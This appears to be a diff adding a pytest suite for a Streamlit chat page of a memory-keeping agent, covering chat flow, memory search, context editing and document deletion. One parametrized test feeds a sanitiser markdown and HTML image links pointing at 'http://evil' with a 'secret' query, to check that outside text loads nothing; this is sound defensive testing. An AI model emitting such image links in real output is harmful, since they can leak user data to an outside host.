@@ -1,0 +1,226 @@
+"""The web page's flows, without a browser: streamlit's AppTest on the offline model."""
+
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+import streamlit as st
+from streamlit.testing.v1 import AppTest
+
+from graphs.memgpt import Context
+from graphs.runtime import Runtime
+from memory.archival import Archival
+from memory.documents import Section
+from nodes.memgpt.state import SMALLEST_WINDOW
+from ui import session
+from ui.safe_text import as_markdown, one_line
+from ui.window_picture import window_html
+
+APP = str(Path(__file__).parent.parent.parent / "app.py")
+
+
+@pytest.fixture
+def opened(runtime: Runtime, monkeypatch: pytest.MonkeyPatch) -> Iterator[Runtime]:
+    """The page on the test's own runtime."""
+    from contextlib import ExitStack
+
+    st.cache_resource.clear()
+    st.cache_data.clear()
+    monkeypatch.setattr(session, "_open", lambda: session.Opened(runtime, ExitStack()))
+    yield runtime
+
+
+def open_app(**parameters: str) -> AppTest:
+    app = AppTest.from_file(APP, default_timeout=60)
+    for name, value in parameters.items():
+        app.query_params[name] = value
+    return run(app)
+
+
+def run(app: AppTest) -> AppTest:
+    app.run()
+    assert not app.exception
+    return app
+
+
+def say(app: AppTest, text: str) -> AppTest:
+    app.chat_input[0].set_value(text)
+    return run(app)
+
+
+def bubbles(app: AppTest) -> list[str]:
+    return [m.markdown[0].value for m in app.chat_message]
+
+
+def everything(app: AppTest) -> str:
+    kinds: list[Any] = [app.markdown, app.caption, app.info, app.error, app.warning, app.success, app.code]
+    return "\n".join(str(e.value) for kind in kinds for e in kind)
+
+
+def button(app: AppTest, label: str) -> Any:
+    return next(b for b in app.button if b.label.startswith(label))
+
+
+def test_a_newcomer_is_told_what_to_do_and_that_no_model_answers(opened: Runtime) -> None:
+    app = open_app()
+    assert "Nothing has been said yet" in everything(app)
+    assert "No language model: answers are quotations from memory" in everything(app)
+    button(app, "My name is Ada").click()
+    run(app)
+    assert bubbles(app)[0] == "My name is Ada and my cat is called Byron."
+    assert "I have kept that" in bubbles(app)[1]
+
+
+def test_chat_reload_and_come_back(opened: Runtime) -> None:
+    app = say(open_app(), "My cat is called Byron.")
+    thread = str(app.query_params["thread"])
+    again = open_app(agent="palimpsest", thread=thread)
+    assert "My cat is called Byron." in bubbles(again)
+    say(again, "What is my cat called?")
+    assert "> My cat is called Byron." in bubbles(again)[-1]
+    steps = [e.label for e in again.expander]
+    assert any("archival\\_memory\\_search" in label for label in steps)
+    fresh = button(again, "New conversation").click()
+    assert fresh is not None
+    run(again)
+    assert "Nothing has been said yet" in everything(again)
+    assert button(again, "My cat is called Byron.")
+
+
+def test_the_window_fills_and_flushes_before_ones_eyes(opened: Runtime) -> None:
+    app = open_app(window=str(SMALLEST_WINDOW))
+    say(app, "My cat is called Byron.")
+    for n in range(10):
+        say(app, f"Note {n}: the river was high today, and the market was full of apples and pears.")
+    text = everything(app)
+    assert "the window begins here" in text
+    assert "Last flush" in text
+    say(app, "What is my cat called?")
+    assert "> My cat is called Byron." in bubbles(app)[-1]
+
+
+def test_the_working_context_is_edited_with_its_limit(opened: Runtime) -> None:
+    app = open_app()
+    human = next(a for a in app.text_area if a.label.startswith("human"))
+    human.set_value("Prefers tea.")
+    button(app, "Save human").click()
+    run(app)
+    assert next(a for a in app.text_area if a.label.startswith("human")).value == "Prefers tea."
+    say(app, "Hello there.")
+    state = opened.state(str(app.query_params["thread"]))
+    assert state["working_context"]["human"] == "Prefers tea."
+    next(a for a in app.text_area if a.label.startswith("human")).set_value("x" * 2_001)
+    button(app, "Save human").click()
+    run(app)
+    assert "Nothing was saved" in everything(app)
+
+
+def test_agents_are_apart(opened: Runtime) -> None:
+    say(open_app(), "A secret of the first.")
+    other = open_app(agent="bob")
+    assert "Nothing has been said yet" in everything(other)
+    assert "Context.agent='no/name'" in everything(open_app(agent="no/name"))
+
+
+def test_a_failing_model_is_told_and_the_message_kept(opened: Runtime, monkeypatch: pytest.MonkeyPatch) -> None:
+    from models.reply import ModelFailed
+
+    def fails(*_: Any, **__: Any) -> None:
+        raise ModelFailed("The endpoint is down: start it.")
+
+    with monkeypatch.context() as broken:
+        broken.setattr("nodes.memgpt.think.ask", fails)
+        app = say(open_app(), "Remember the milk.")
+    assert "The endpoint is down: start it." in everything(app)
+    assert "The last turn did not end" in everything(app)
+    assert "Remember the milk." in bubbles(app)
+    button(app, "Go on with it").click()
+    run(app)
+    assert "I have kept that" in bubbles(app)[-1]
+
+
+def memory(runtime: Runtime) -> AppTest:
+    def page() -> None:
+        from ui import memory_page
+
+        memory_page.show()
+
+    return AppTest.from_function(page, default_timeout=60)
+
+
+def test_the_memory_page_searches_pages_and_shows_what_left(opened: Runtime) -> None:
+    app = memory(opened)
+    run(app)
+    assert "Nothing has been said to this agent yet" in everything(app)
+    context = Context(agent="palimpsest", model="offline", window=SMALLEST_WINDOW)
+    for n in range(12):
+        opened.turn("t", f"Note {n}: Apples and pears from the market by the river.", context)
+    app = memory(opened)
+    app.query_params["thread"] = "t"
+    run(app)
+    assert "**24** found · 1 to 10" in everything(app)
+    app.text_input(key="recall_text").set_value("apples")
+    run(app)
+    assert "**12** found · 1 to 10" in everything(app)
+    next(b for b in app.button if b.label == "Next →").click()
+    run(app)
+    assert "**12** found · 11 to 12" in everything(app)
+    app.toggle(key="recall_case").set_value(True)
+    run(app)
+    assert "No message matches" in everything(app)
+    app.toggle(key="recall_case").set_value(False)
+    app.segmented_control(key="recall_how").set_value("By meaning")
+    run(app)
+    assert "found · 1 to 10" in everything(app)
+    assert "messages have left" in everything(app)
+
+
+def test_documents_are_listed_and_deleted(opened: Runtime) -> None:
+    Archival(opened.store, "palimpsest").ingest("tea.md", [Section("Oolong is half oxidised.", "Tea")])
+    app = memory(opened)
+    run(app)
+    assert "tea.md" in everything(app).replace("\\", "")
+    button(app, "Delete").click()
+    run(app)
+    assert "No documents yet" in everything(app)
+
+
+def test_a_memory_in_use_stops_the_page_with_advice(home: Path) -> None:
+    from graphs.runtime import open_runtime
+    from settings import Settings
+
+    st.cache_resource.clear()
+    with open_runtime(Settings(home=home)):
+        app = AppTest.from_file(APP, default_timeout=60).run()
+        assert "is open in another process" in everything(app)
+    button(app, "Try again").click()
+    app.run()
+    assert "Nothing has been said yet" in everything(app)
+    st.cache_resource.clear()
+
+
+# ---- what the pages are made of --------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("given", "forbidden"),
+    [("![x](http://evil/?q=secret)", "![x]"), ("a <img src=http://evil>", "a <img"), ("costs $5 and $6", " $5")],
+)
+def test_text_from_outside_loads_nothing(given: str, forbidden: str) -> None:
+    assert forbidden not in as_markdown(given)
+
+
+def test_labels_are_one_plain_line() -> None:
+    assert one_line("a\nb *c* [d](e)") == "a b \\*c\\* \\[d\\]\\(e\\)"
+    assert len(one_line("x" * 500)) == 80
+
+
+def test_the_picture_is_to_scale_and_told_in_words() -> None:
+    from nodes.memgpt.window import Usage
+
+    html = window_html(Usage(1_000, 500, 0, 2_596, 8_192), Context())
+    assert "instructions 1000 tokens" in html.lower()
+    assert "width:12.21%" in html
+    assert "left:70.00%" in html
+    assert "<b>50%</b> of 8,192 tokens" in html
